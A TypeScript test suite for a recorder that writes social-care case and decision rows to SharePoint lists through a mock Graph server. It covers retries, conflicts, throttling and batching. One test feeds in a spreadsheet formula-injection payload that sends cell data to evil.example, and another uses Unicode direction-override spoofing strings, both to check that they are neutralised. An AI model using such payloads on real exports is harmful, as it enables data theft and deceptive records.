/**
 * The Graph recorder against the local Graph server, through the real graph-client v3 built by our
 * factory (with a bearer token the server checks). Lists are made by the real provisioning code.
 */
import assert from 'node:assert/strict';
import type { Client } from '@microsoft/microsoft-graph-client';
import { createGraphRecorder } from '../../src/adapters/graph/graph-recorder';
import { PermanentRecordError, RecordRequest, TransientRecordError } from '../../src/ports/recorder';
import { provisionSharePoint } from '../../deploy/provision-sharepoint';
import { LocalGraphServer } from '../../support/local-graph-server';
import { TEST_TOKEN, testGraphClient } from '../../support/graph-test-client';

const SITE = 'contoso.sharepoint.com,aaaaaaaa-1111-1111-1111-111111111111,bbbbbbbb-2222-2222-2222-222222222222';

function caseRow(stage: string, updatedAt: string, extra: RecordRequest['fields'] = {}): RecordRequest {
  return {
    list: 'cases',
    key: 'case:C-1001',
    caseRef: 'C-1001',
    fields: { Pathway: 'planned', Stage: stage, OpenedAt: '2025-03-03T09:00:00Z', UpdatedAt: updatedAt, SocialWorker: 'Sam Social', DaysInCare: 12, ...extra },
  };
}

function decision(n: number): RecordRequest {
  return {
    list: 'decisions',
    key: `decision:C-1001:${n}`,
    caseRef: 'C-1001',
    fields: { Stage: 'assessment', Outcome: 'approved', DecidedBy: 'Tia Manager', DecidedById: 'tm-1', DecidedAt: '2025-03-04T10:00:00Z', Retrospective: false },
  };
}

async function rejectsWith<T extends Error>(promise: Promise<unknown>, type: new (...args: never[]) => T): Promise<T> {
  try {
    await promise;
  } catch (error) {
    assert.ok(error instanceof type, `expected ${type.name}, got ${String(error)}`);
    return error;
  }
  assert.fail(`expected ${type.name}, but it resolved`);
}

describe('Graph recorder (local Graph server, real graph-client)', () => {
  let server: LocalGraphServer;
  let client: Client;

  const rows = (list: string): ReturnType<LocalGraphServer['rows']> => server.rows(SITE, list);
  const recorder = (): ReturnType<typeof createGraphRecorder> => createGraphRecorder({ client, siteId: SITE });
  const writes = (): string[] => server.stats().log.filter((e) => e.method !== 'GET').map((e) => `${e.method} ${e.status}`);

  before(async () => {
    server = await LocalGraphServer.start({ requireAuth: true, acceptedTokens: [TEST_TOKEN] });
    client = testGraphClient(server.url);
  });
  after(async () => {
    await server.stop();
  });
  beforeEach(async () => {
    server.reset();
    await provisionSharePoint(client, SITE);
    server.resetStats();
  });

  it('creates a case row, then updates the same row by key', async () => {
    await recorder().record(caseRow('assessment', '2025-03-03T09:00:00Z'));
    await recorder().record(caseRow('sign-off', '2025-03-05T16:30:00.000Z'));
    const cases = rows('Cases');
    assert.equal(cases.length, 1);
    assert.equal(cases[0]?.IdempotencyKey, 'case:C-1001');
    assert.equal(cases[0]?.CaseRef, 'C-1001');
    assert.equal(cases[0]?.Stage, 'sign-off');
    assert.equal(cases[0]?.UpdatedAt, '2025-03-05T16:30:00Z');
    assert.equal(cases[0]?.DaysInCare, 12);
    assert.deepEqual(writes(), ['POST 201', 'PATCH 200']);
  });

  it('a repeated identical update changes nothing (one look-up, no write)', async () => {
    await recorder().record(caseRow('assessment', '2025-03-03T09:00:00Z'));
    server.resetStats();
    await recorder().record(caseRow('assessment', '2025-03-03T09:00:00Z'));
    assert.deepEqual(writes(), []);
    assert.equal(server.stats().resourceUnits, 2);
  });

  it('records a date column given as a calendar date', async () => {
    await recorder().record({ list: 'tasks', key: 'task:C-1001:visit-1', caseRef: 'C-1001', fields: { Kind: 'visit', DueOn: '2025-04-01', Status: 'due' } });
    assert.equal(rows('Tasks')[0]?.DueOn, '2025-04-01T00:00:00Z');
  });

  it('never duplicates an append-only row when the same decision is recorded twice', async () => {
    await recorder().record(decision(1));
    await recorder().record(decision(1));
    await recorder().record(decision(2));
    assert.deepEqual(rows('Decisions').map((r) => r.IdempotencyKey), ['decision:C-1001:1', 'decision:C-1001:2']);
  });

  it('a create whose reply was lost (503 after the row was stored) is retried without a duplicate', async () => {
    server.fail({ status: 503, afterApply: true, match: (t) => t.method === 'POST' });
    const error = await rejectsWith(recorder().record(decision(1)), TransientRecordError);
    assert.match(error.message, /503/);
    assert.equal(rows('Decisions').length, 1, 'the first POST was applied');
    // The client did not retry the POST by itself (no RetryHandler): one POST reached the server.
    assert.deepEqual(writes(), ['POST 503']);

    await recorder().record(decision(1)); // what the outbox does next
    assert.equal(rows('Decisions').length, 1);
    assert.deepEqual(writes(), ['POST 503'], 'the retry found the key and wrote nothing');
  });

  it('a create whose connection dropped after the row was stored is retried without a duplicate', async () => {
    server.fail({ afterApply: true, dropConnection: true, match: (t) => t.method === 'POST' });
    await rejectsWith(recorder().record(caseRow('assessment', '2025-03-03T09:00:00Z')), TransientRecordError);
    await recorder().record(caseRow('assessment', '2025-03-03T09:00:00Z'));
    assert.equal(rows('Cases').length, 1);
  });

  it('on 412 re-reads the row and re-applies its fields onto the fresh eTag', async () => {
    await recorder().record(caseRow('assessment', '2025-03-03T09:00:00Z'));
    // Another writer changes the row between our look-up and our PATCH.
    server.beforeNext(
      (t) => t.method === 'PATCH',
      async () => {
        const [row] = rows('Cases');
        assert.ok(row);
        const listId = await listIdOf('Cases');
        const response = await fetch(`${server.url}/v1.0/sites/${SITE}/lists/${listId}/items/1/fields`, {
          method: 'PATCH',
          headers: { Authorization: `Bearer ${TEST_TOKEN}`, 'Content-Type': 'application/json' },
          body: JSON.stringify({ TeamManager: 'Tia Manager', SocialWorker: 'Someone Else' }),
        });
        assert.equal(response.status, 200);
      },
    );
    server.resetStats();
    await recorder().record(caseRow('sign-off', '2025-03-05T16:30:00Z'));
    const [row] = rows('Cases');
    assert.equal(row?.Stage, 'sign-off');
    assert.equal(row?.SocialWorker, 'Sam Social', 'our field re-applied');
    assert.equal(row?.TeamManager, 'Tia Manager', 'their other change kept');
    assert.deepEqual(writes(), ['PATCH 200', 'PATCH 412', 'PATCH 200']); // theirs, ours (stale), ours again
  });

  it('on 412 keeps the row when it already holds a newer case update', async () => {
    await recorder().record(caseRow('assessment', '2025-03-03T09:00:00Z'));
    server.beforeNext(
      (t) => t.method === 'PATCH',
      async () => {
        const listId = await listIdOf('Cases');
        await fetch(`${server.url}/v1.0/sites/${SITE}/lists/${listId}/items/1/fields`, {
          method: 'PATCH',
          headers: { Authorization: `Bearer ${TEST_TOKEN}`, 'Content-Type': 'application/json' },
          body: JSON.stringify({ Stage: 'closed', UpdatedAt: '2025-03-09T12:00:00Z' }),
        });
      },
    );
    await recorder().record(caseRow('sign-off', '2025-03-05T16:30:00Z'));
    assert.equal(rows('Cases')[0]?.Stage, 'closed');
  });

  it('a 429 becomes TransientRecordError carrying Retry-After; the client does not retry it', async () => {
    server.throttle({ retryAfterSeconds: 1 });
    const error = await rejectsWith(recorder().record(decision(1)), TransientRecordError);
    assert.equal(error.retryAfterMs, 1000);
    assert.equal(server.stats().operations, 1);
    assert.equal(rows('Decisions').length, 0);
  });

  it('a 503 outage and a refused connection are both transient', async () => {
    await server.outage({ forMs: 60_000, mode: '503', retryAfterSeconds: 2 });
    const unavailable = await rejectsWith(recorder().record(decision(1)), TransientRecordError);
    assert.equal(unavailable.retryAfterMs, 2000);
    await server.endOutage();
    await server.outage({ forMs: 60_000, mode: 'refuse' });
    const refused = await rejectsWith(recorder().record(decision(1)), TransientRecordError);
    assert.equal(refused.retryAfterMs, undefined);
    await server.endOutage();
    await recorder().record(decision(1));
    assert.equal(rows('Decisions').length, 1);
  });

  it('a request that hangs past the client timeout is transient', async () => {
    const impatient = createGraphRecorder({ client: testGraphClient(server.url, TEST_TOKEN, 100), siteId: SITE });
    server.delay({ ms: 1_000, times: 1 });
    const error = await rejectsWith(impatient.record(decision(1)), TransientRecordError);
    assert.match(error.message, /TimeoutError/);
    // The server still finishes (and charges) the abandoned request about a second later; wait for it
    // here, or its charge lands in whichever test runs next and that test's counts go wrong under load.
    const deadline = Date.now() + 10_000;
    while (server.stats().log.length === 0 && Date.now() < deadline) await new Promise((resolve) => setTimeout(resolve, 20));
    assert.equal(server.stats().log.length, 1, 'the abandoned request was finished by the server');
  });

  it('a 400 from Graph (value too long for a multi-line column) is permanent', async () => {
    const error = await rejectsWith(recorder().record(caseRow('assessment', '2025-03-03T09:00:00Z', { DirectorSignOffRules: 'x'.repeat(64_000) })), PermanentRecordError);
    assert.match(error.message, /400/);
    assert.doesNotMatch(error.message, /xxxx/, 'field values stay out of error messages');
  });

  it('a name longer than a single-line column holds is clipped to 255 characters, not refused (the row is kept)', async () => {
    // Entra display names run to 256 characters and the organisation file sets no limit; a refused
    // row would be dead-lettered and the decision missing from the Decisions list.
    const long = `Alexandra ${'Longname-'.repeat(40)}`;
    const straddling = `${'x'.repeat(253)}😀${'y'.repeat(10)}`;
    await recorder().record({ ...decision(1), fields: { ...decision(1).fields, DecidedBy: long, OnBehalfOf: straddling } });
    const [row] = rows('Decisions');
    const decidedBy = String(row?.DecidedBy);
    assert.equal(decidedBy.length, 255);
    assert.ok(decidedBy.startsWith('Alexandra Longname-') && decidedBy.endsWith('…'), decidedBy);
    const onBehalfOf = String(row?.OnBehalfOf);
    assert.equal(onBehalfOf, `${'x'.repeat(253)}…`);
    // Recording the same decision again changes nothing (the clipped value is what the row holds).
    server.resetStats();
    await recorder().record({ ...decision(1), fields: { ...decision(1).fields, DecidedBy: long, OnBehalfOf: straddling } });
    assert.deepEqual(writes(), []);
  });

  it('a comment or name with Unicode direction overrides reaches the list without them, so it cannot read in another order than typed there', async () => {
    // "\u202Edevorppa" shows as "approved" wherever direction controls are obeyed (the list, an export),
    // as the Teams cards and messages already show it as typed (markdown-escape.ts).
    const fields = { ...decision(1).fields, Comment: 'Not \u202Edevorppa\u202C yet; ask \u2067the school\u2069.', DecidedBy: 'Harper \u202EdaeH' };
    await recorder().record({ ...decision(1), fields });
    const [row] = rows('Decisions');
    assert.equal(row?.Comment, 'Not devorppa yet; ask the school.');
    assert.equal(row?.DecidedBy, 'Harper daeH');
    server.resetStats();
    await recorder().record({ ...decision(1), fields });
    assert.deepEqual(writes(), [], 'recording it again changes nothing');
  });

  it('a comment or name a spreadsheet would run as a formula reaches the list with an apostrophe before it, so an export to Excel shows it and runs nothing', async () => {
    // Decisions.Comment is typed by whoever decides; a list exported to CSV and opened in Excel runs
    // a cell starting with = + - @ (or a tab or carriage return) as a formula.
    const comment = '=HYPERLINK("http://evil.example/?"&A1,"Open the plan")';
    const fields = { ...decision(1).fields, Comment: comment, DecidedBy: '@Harper', OnBehalfOf: '+Sam', Outcome: '-2+3' };
    await recorder().record({ ...decision(1), fields });
    const [row] = rows('Decisions');
    assert.equal(row?.Comment, `'${comment}`);
    assert.equal(row?.DecidedBy, "'@Harper");
    assert.equal(row?.OnBehalfOf, "'+Sam");
    assert.equal(row?.Outcome, "'-2+3");
    // A tab or carriage return first, or a direction control hiding the = (taken out first), the same.
    await recorder().record({ ...decision(2), fields: { ...decision(2).fields, Comment: '\t=1+1', DecidedBy: '\u202E=1+1', OnBehalfOf: '\r@SUM(A1)' } });
    const second = rows('Decisions')[1];
    assert.equal(second?.Comment, "'\t=1+1");
    assert.equal(second?.DecidedBy, "'=1+1");
    assert.equal(second?.OnBehalfOf, "'\r@SUM(A1)");
    // Text that only holds such a sign further on is as typed; recording again changes nothing.
    await recorder().record({ ...decision(3), fields: { ...decision(3).fields, Comment: 'Agreed: 2+2 = 4 @ home - fine' } });
    assert.equal(rows('Decisions')[2]?.Comment, 'Agreed: 2+2 = 4 @ home - fine');
    server.resetStats();
    await recorder().record({ ...decision(1), fields });
    await recorder().record({ ...caseRow('assessment', '2025-03-04T10:00:00Z', { SocialWorker: '=Sam' }) });
    await recorder().record({ ...caseRow('assessment', '2025-03-04T10:00:00Z', { SocialWorker: '=Sam' }) });
    assert.equal(rows('Cases')[0]?.SocialWorker, "'=Sam");
    assert.deepEqual(writes(), ['POST 201'], 'the decision is not written again; the case row once, then left as it is');
  });

  it('403 and a missing list (404) are permanent', async () => {
    server.fail({ status: 403 });
    await rejectsWith(recorder().record(decision(1)), PermanentRecordError);
    const missing = createGraphRecorder({ client, siteId: SITE, lists: { decisions: 'NoSuchList' } });
    const error = await rejectsWith(missing.record(decision(1)), PermanentRecordError);
    assert.match(error.message, /404/);
  });

  it('an unknown column or a wrongly typed value is refused before any request', async () => {
    await rejectsWith(recorder().record({ ...decision(1), fields: { ChildName: 'x' } }), PermanentRecordError);
    await rejectsWith(recorder().record({ ...decision(1), fields: { Retrospective: 'yes' } }), PermanentRecordError);
    assert.equal(server.stats().requests, 0);
  });

  it('charges 4 resource units for a new row and 2 for a repeat', async () => {
    await recorder().record(decision(1));
    assert.equal(server.stats().resourceUnits, 4);
    await recorder().record(decision(1));
    assert.equal(server.stats().resourceUnits, 6);
  });

  it('recordMany uses $batch: far fewer requests than one by one, same rows', async () => {
    const many = Array.from({ length: 30 }, (_, i) => decision(i));
    await recorder().recordMany(many);
    const batched = server.stats();
    assert.equal(rows('Decisions').length, 30);
    assert.equal(batched.batches, 4); // look-ups 20 + 10, creates 20 + 10

    server.reset();
    await provisionSharePoint(client, SITE);
    server.resetStats();
    for (const request of many) await recorder().record(request);
    const oneByOne = server.stats();
    assert.equal(rows('Decisions').length, 30);
    assert.ok(batched.requests < oneByOne.requests, `${batched.requests} batched vs ${oneByOne.requests} one by one`);
    assert.equal(batched.resourceUnits, oneByOne.resourceUnits, 'the same work is charged either way');
  });

  it('recordMany creates, updates and skips as record() does, merging updates to the same row', async () => {
    await recorder().record(caseRow('assessment', '2025-03-03T09:00:00Z'));
    await recorder().record(decision(1));
    server.resetStats();
    await recorder().recordMany([
      decision(1), // already there: nothing
      decision(2), // new
      caseRow('sign-off', '2025-03-05T16:30:00Z'),
      caseRow('review', '2025-03-06T16:30:00Z'), // same row: merged, last wins
    ]);
    assert.equal(rows('Decisions').length, 2);
    assert.equal(rows('Cases').length, 1);
    assert.equal(rows('Cases')[0]?.Stage, 'review');
    assert.deepEqual(server.stats().log.filter((e) => e.inBatch && e.method !== 'GET').map((e) => e.method).sort(), ['PATCH', 'POST']);
  });

  it('a 429 inside a batch is not dropped: TransientRecordError with its Retry-After, and the retry completes without duplicates', async () => {
    const many = Array.from({ length: 5 }, (_, i) => decision(i));
    server.throttle({ times: 1, retryAfterSeconds: 1, match: (t) => t.inBatch && t.method === 'POST' });
    const error = await rejectsWith(recorder().recordMany(many), TransientRecordError);
    assert.equal(error.retryAfterMs, 1000);
    assert.equal(rows('Decisions').length, 4);
    await recorder().recordMany(many);
    assert.deepEqual(rows('Decisions').map((r) => r.IdempotencyKey).sort(), many.map((r) => r.key).sort());
  });

  it('a 412 inside a batch is reconciled one by one', async () => {
    await recorder().record(caseRow('assessment', '2025-03-03T09:00:00Z'));
    server.beforeNext(
      (t) => t.inBatch && t.method === 'PATCH',
      async () => {
        const listId = await listIdOf('Cases');
        await fetch(`${server.url}/v1.0/sites/${SITE}/lists/${listId}/items/1/fields`, {
          method: 'PATCH',
          headers: { Authorization: `Bearer ${TEST_TOKEN}`, 'Content-Type': 'application/json' },
          body: JSON.stringify({ Iro: 'Ira Reviewer' }),
        });
      },
    );
    await recorder().recordMany([caseRow('sign-off', '2025-03-05T16:30:00Z'), decision(1)]);
    assert.equal(rows('Cases')[0]?.Stage, 'sign-off');
    assert.equal(rows('Cases')[0]?.Iro, 'Ira Reviewer');
    assert.equal(rows('Decisions').length, 1);
  });

  async function listIdOf(displayName: string): Promise<string> {
    const reply = (await client.api(`/sites/${SITE}/lists?$filter=${encodeURIComponent(`displayName eq '${displayName}'`)}`).get()) as { value: Array<{ id: string }> };
    const id = reply.value[0]?.id;
    assert.ok(id);
    return id;
  }

  describe('rows remembered between updates', function () {
    this.timeout(30_000);
    const caseRowAt = (stage: string, minute: number): RecordRequest => ({
      list: 'cases',
      key: 'case:R-1',
      caseRef: 'R-1',
      fields: { Pathway: 'unplanned', Stage: stage, UpdatedAt: `2026-03-02T10:${String(minute).padStart(2, '0')}:00Z` },
    });
    const calls = (): string[] => server.stats().log.map((e) => `${e.method} ${e.path.replace(/^\/sites\/[^/]+\/lists\/Cases/, '')} ${e.status}`);

    it('the second update of a row is one PATCH with If-Match, no look-up', async () => {
      const recorder = createGraphRecorder({ client, siteId: SITE });
      await recorder.record(caseRowAt('preparing', 1));
      await recorder.record(caseRowAt('awaiting-team-manager', 2));
      await recorder.record(caseRowAt('awaiting-iro-view', 3));
      assert.deepEqual(calls(), ['GET /items 200', 'POST /items 201', 'PATCH /items/1/fields 200', 'PATCH /items/1/fields 200']);
      assert.equal(server.rows(SITE, 'Cases')[0]?.Stage, 'awaiting-iro-view');
    });

    it('a row changed by someone else meanwhile: 412, re-read, re-applied', async () => {
      const recorder = createGraphRecorder({ client, siteId: SITE });
      await recorder.record(caseRowAt('preparing', 1));
      const list = (await client.api(`/sites/${SITE}/lists/Cases/items?expand=fields`).get()) as { value: Array<{ id: string }> };
      await client.api(`/sites/${SITE}/lists/Cases/items/${list.value[0]!.id}/fields`).patch({ Stage: 'edited by hand' });
      server.resetStats();
      await recorder.record(caseRowAt('awaiting-team-manager', 2));
      assert.deepEqual(calls(), ['PATCH /items/1/fields 412', 'GET /items/1 200', 'PATCH /items/1/fields 200']);
      assert.equal(server.rows(SITE, 'Cases')[0]?.Stage, 'awaiting-team-manager');
    });

    it('a row deleted meanwhile: 404, looked up by key, created again', async () => {
      const recorder = createGraphRecorder({ client, siteId: SITE });
      await recorder.record(caseRowAt('preparing', 1));
      await client.api(`/sites/${SITE}/lists/Cases/items/1`).delete();
      server.resetStats();
      await recorder.record(caseRowAt('awaiting-team-manager', 2));
      assert.deepEqual(calls(), ['PATCH /items/1/fields 404', 'GET /items 200', 'POST /items 201']);
      assert.equal(server.rows(SITE, 'Cases').length, 1);
    });

    it('an update whose reply was lost is retried without a second write of stale data', async () => {
      const recorder = createGraphRecorder({ client, siteId: SITE });
      await recorder.record(caseRowAt('preparing', 1));
      server.fail({ status: 504, afterApply: true, match: (t) => t.method === 'PATCH' });
      await assert.rejects(recorder.record(caseRowAt('awaiting-team-manager', 2)), TransientRecordError);
      server.resetStats();
      await recorder.record(caseRowAt('awaiting-team-manager', 2)); // the outbox's retry
      assert.deepEqual(calls(), ['GET /items 200'], 'looked up, found already applied, nothing written');
    });
  });
});
